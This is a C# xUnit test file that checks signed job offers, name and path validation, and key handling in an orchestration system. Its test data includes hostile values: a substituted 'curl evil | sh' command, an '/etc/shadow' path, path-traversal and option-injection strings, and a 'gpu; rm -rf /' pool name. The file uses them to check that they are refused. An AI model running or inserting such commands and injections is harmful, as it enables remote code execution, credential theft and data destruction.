using System.Text;
using FeedbackLoop.Contracts.Bus;
using FeedbackLoop.Contracts.Datasets;
using FeedbackLoop.Orchestration.Transport;
using FeedbackLoop.Pipelines;

namespace FeedbackLoop.Orchestration.Tests.Jobs;

/// <summary>What a worker trusts: signed offers (docs/adr/0031-signed-job-offers.md), safe names and paths, its own pool.</summary>
public sealed class JobTrustTests
{
    private static readonly JobSigner Signer = new(JobKey.FromText("orchestrator-and-workers-share-this-key-0001"));

    private static JobOffered Offer(Func<JobSpec, JobSpec>? change = null, string jobId = "demo-run-000000120-tune")
    {
        var spec = new JobSpec(
            JobKinds.Tune, JobRunners.Command, "demo-run-000000120", "demo", "demo-m120", [new SnapshotFile("/data/pairs/demo/p-0.parquet", 120)],
            0.25, 42, "/data/models/demo-m120", ["python3", "/opt/train.py", "--app", "{app}", "--output", "{output}"], [],
            new Dictionary<string, string> { ["app"] = "demo", ["version"] = "demo-m120", ["params"] = """{"beta":0.1}""" }, null, null, null, 3600);
        return new JobOffered(jobId, 1, change is null ? spec : change(spec));
    }

    [Fact]
    public void A_signed_offer_verifies_under_the_same_key_and_not_under_another()
    {
        var signed = Signer.Sign(Offer());

        Assert.True(Signer.Verify(signed));
        Assert.False(new JobSigner(JobKey.FromText("a-different-key-of-enough-length-0000000")).Verify(signed));
        Assert.Matches("^[0-9a-f]{64}$", signed.Signature);
    }

    [Fact]
    public void Every_altered_part_of_a_signed_offer_fails_the_check()
    {
        var signed = Signer.Sign(Offer());
        JobOffered[] altered =
        [
            signed with { JobId = "demo-run-000000120-eval" },
            signed with { Attempt = 2 },
            signed with { Spec = signed.Spec with { Command = ["/bin/sh", "-c", "curl evil | sh"] } },
            signed with { Spec = signed.Spec with { AppId = "other" } },
            signed with { Spec = signed.Spec with { Pool = "gpu" } },
            signed with { Spec = signed.Spec with { EvalRecency = new EvalRecencySpec(1800, 100) } },
            signed with { Spec = signed.Spec with { Variables = new Dictionary<string, string>(signed.Spec.Variables) { ["params"] = "{}" } } },
            signed with { Spec = signed.Spec with { Files = [new SnapshotFile("/etc/shadow", 1)] } },
            signed with { Signature = null },
            signed with { Signature = "zz" },
            signed with { Signature = new string('0', 64) },
        ];

        Assert.All(altered, offer => Assert.False(Signer.Verify(offer)));
    }

    [Fact]
    public void The_signed_content_does_not_depend_on_dictionary_order()
    {
        var forward = Offer();
        var backward = forward with
        {
            Spec = forward.Spec with { Variables = forward.Spec.Variables.Reverse().ToDictionary(p => p.Key, p => p.Value) },
        };

        Assert.Equal(JobSigner.CanonicalContent(forward), JobSigner.CanonicalContent(backward));
        Assert.True(Signer.Verify(Signer.Sign(forward) with { Spec = backward.Spec }));
    }

    [Fact]
    public void An_offer_without_eval_recency_signs_as_before_the_setting_existed_and_one_with_it_survives_the_bus()
    {
        // Left out when null: a worker of the previous build computes the same signed bytes for an offer that does not use it.
        Assert.DoesNotContain("eval_recency", Encoding.UTF8.GetString(JobSigner.CanonicalContent(Offer())), StringComparison.Ordinal);

        var signed = Signer.Sign(Offer(s => s with { EvalRecency = new EvalRecencySpec(1800, 100) }));
        var received = System.Text.Json.JsonSerializer.Deserialize<JobOffered>(System.Text.Json.JsonSerializer.Serialize(signed))!;

        Assert.Contains("\"eval_recency\":{\"min_pairs\":100,\"window_seconds\":1800}", Encoding.UTF8.GetString(JobSigner.CanonicalContent(signed)), StringComparison.Ordinal);
        Assert.Equal(new EvalRecencySpec(1800, 100), received.Spec.EvalRecency);
        Assert.True(Signer.Verify(received));
    }

    [Fact]
    public void The_signature_survives_the_trip_through_the_bus_json()
    {
        var signed = Signer.Sign(Offer());
        var json = System.Text.Json.JsonSerializer.Serialize(signed);

        var received = System.Text.Json.JsonSerializer.Deserialize<JobOffered>(json)!;

        Assert.True(Signer.Verify(received));
    }

    public static TheoryData<string, string> HostileSpecs => new()
    {
        { "app id with an option", "x --evil" },
        { "app id climbing out", "../../etc" },
        { "app id starting with a dash", "-rf" },
        { "version with an option", "v --evil" },
        { "version climbing out", "../../etc" },
        { "output outside the version's folder", "/data/models/../../etc" },
        { "job id climbing out", "../../etc" },
        { "unknown pool", "GPU!" },
    };

    [Theory]
    [MemberData(nameof(HostileSpecs))]
    public void Hostile_names_and_paths_are_refused_before_anything_runs(string what, string value)
    {
        var offer = what switch
        {
            "app id with an option" or "app id climbing out" or "app id starting with a dash" => Offer(s => s with { AppId = value }),
            "version with an option" or "version climbing out" => Offer(s => s with { CandidateVersion = value, OutputRoot = "/data/models/" + value }),
            "output outside the version's folder" => Offer(s => s with { OutputRoot = value }),
            "job id climbing out" => Offer(jobId: value),
            "unknown pool" => Offer(s => s with { Pool = value }),
            _ => throw new ArgumentOutOfRangeException(nameof(what), what, null),
        };

        var problem = JobSpecCheck.Problem(offer);

        Assert.NotNull(problem);
        Assert.DoesNotContain(value, problem, StringComparison.Ordinal);
    }

    [Fact]
    public void A_well_formed_offer_passes_the_check()
    {
        Assert.Null(JobSpecCheck.Problem(Offer()));
    }

    [Theory]
    [InlineData("cpu", true)]
    [InlineData("gpu", true)]
    [InlineData("gpu-h100", true)]
    [InlineData("a100_80gb.eu", true)]
    [InlineData("", false)]
    [InlineData("GPU", false)]
    [InlineData("gpu/h100", false)]
    [InlineData("-gpu", false)]
    [InlineData("gpu-", false)]
    [InlineData("gpu h100", false)]
    [InlineData("gpu#", false)]
    [InlineData("0123456789012345678901234567890123456789012345678", false)]
    public void Pool_names_are_what_a_queue_name_can_safely_hold(string pool, bool valid)
    {
        Assert.Equal(valid, JobPools.IsValid(pool));
        if (valid)
        {
            Assert.Equal("feedbackloop-jobs-" + pool, LoopQueues.JobsOf(pool));
        }
        else
        {
            Assert.Throws<ArgumentException>(() => LoopQueues.JobsOf(pool));
        }
    }

    [Fact]
    public void On_a_broker_a_key_is_required_and_the_message_says_how_to_set_one()
    {
        var error = Assert.Throws<ArgumentException>(() => JobKey.FromEnvironment(required: true, _ => null));

        Assert.Contains(JobKey.Variable, error.Message, StringComparison.Ordinal);
        Assert.Contains(JobKey.FileVariable, error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void In_one_process_a_random_key_is_made_and_two_processes_do_not_share_it()
    {
        var first = new JobSigner(JobKey.FromEnvironment(required: false, _ => null));
        var second = new JobSigner(JobKey.FromEnvironment(required: false, _ => null));

        Assert.False(second.Verify(first.Sign(Offer())));
    }

    [Fact]
    public void A_short_key_or_both_variables_are_refused_without_echoing_the_key()
    {
        var shortKey = Assert.Throws<ArgumentException>(() => JobKey.FromEnvironment(true, v => v == JobKey.Variable ? "hunter2" : null));
        var both = Assert.Throws<ArgumentException>(() => JobKey.FromEnvironment(true, _ => "x"));

        Assert.DoesNotContain("hunter2", shortKey.Message, StringComparison.Ordinal);
        Assert.Contains("set one of them", both.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_key_file_gives_the_same_key_as_the_variable()
    {
        var file = Path.GetTempFileName();
        try
        {
            File.WriteAllText(file, "orchestrator-and-workers-share-this-key-0001\n", Encoding.UTF8);
            var fromFile = new JobSigner(JobKey.FromEnvironment(true, v => v == JobKey.FileVariable ? file : null));

            Assert.True(fromFile.Verify(Signer.Sign(Offer())));
        }
        finally
        {
            File.Delete(file);
        }
    }

    [Fact]
    public void A_pipeline_names_the_pool_of_its_jobs_and_eval_follows_the_trainer_unless_it_names_its_own()
    {
        var pipeline = PipelineLoader.LoadFromText(
            """
            defaults:
              trainer: {kind: mlnet-reward, pool: gpu-h100}
            apps:
              chat: {}
              support:
                eval: {pool: cpu}
            """, "p.yaml");

        Assert.Equal(("gpu-h100", null), (pipeline.For("chat").Trainer.Pool, pipeline.For("chat").Eval.Pool));
        Assert.Equal("cpu", pipeline.For("support").Eval.Pool);
        Assert.Equal(JobPools.Default, PipelineLoader.LoadFromText("apps:\n  chat: {}\n", "p.yaml").For("chat").Trainer.Pool);
    }

    [Fact]
    public void A_pool_name_a_queue_cannot_hold_is_refused_where_it_is_written()
    {
        var error = Assert.Throws<PipelineException>(() => PipelineLoader.LoadFromText(
            """
            defaults:
              trainer: {pool: "gpu; rm -rf /"}
            """, "p.yaml"));

        Assert.Contains("trainer.pool", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_shipped_gpu_pipeline_runs_on_the_gpu_pool()
    {
        var pipeline = PipelineLoader.Load(Path.Combine(AppContext.BaseDirectory, "pipelines", "gpu.yaml"));

        Assert.Equal("gpu", pipeline.Defaults.Trainer.Pool);
    }
}
